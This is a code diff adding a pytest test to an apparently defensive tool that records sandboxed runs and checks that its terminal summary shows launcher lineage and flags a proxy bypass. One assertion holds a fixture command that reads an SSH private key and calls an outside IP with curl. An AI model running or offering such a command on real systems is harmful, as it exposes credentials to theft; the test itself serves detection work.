@@ -76,3 +76,24 @@ def test_sandboxed_lineage_and_plumbing(tmp_path: Path, artifacts: Path, chromiu
         assert "bypassed the proxy" in rows["203.0.113.5"]
         assert sum("bypassed the proxy" in r for r in rows.values()) == 1
         page.locator("#network").screenshot(path=str(artifacts / "sandboxed-network.png"))
+
+
+def test_sandboxed_lineage_in_show(tmp_path: Path) -> None:
+    """`show` (the terminal summary) folds the launchers the same way."""
+    from spyglass.report.terminal import print_run_summary
+
+    store = Store(tmp_path / "store", create=True)
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    sinks = build_sinks(Policy.default(ws), home=HOME, stream=io.StringIO())
+    req = RunRequest(argv=BWRAP, cwd=str(ws), workspace=[str(ws)], sandbox=True,
+                     extra={"home": HOME, "sandbox": {"relay": {"port": 3128}}})
+    outcome = record(req, ReplayBackend(_events()), store, sinks)
+    buf = io.StringIO()
+    print_run_summary(RunReader(store, outcome.meta.id), buf, color=False)
+    text = buf.getvalue()
+    lineage = text.split("lineage", 1)[1].split("event", 1)[0]
+    assert "[sandbox: bwrap › proxy relay]" in lineage and "[sandbox: proxy relay] sh" not in lineage
+    assert lineage.count("sh -c 'cat /home/u/.ssh/id_rsa; curl https://203.0.113.5/'") == 1
+    assert "spyglass plumbing" in text and "local IPC" in text
+    assert text.count("bypassed proxy") == 1
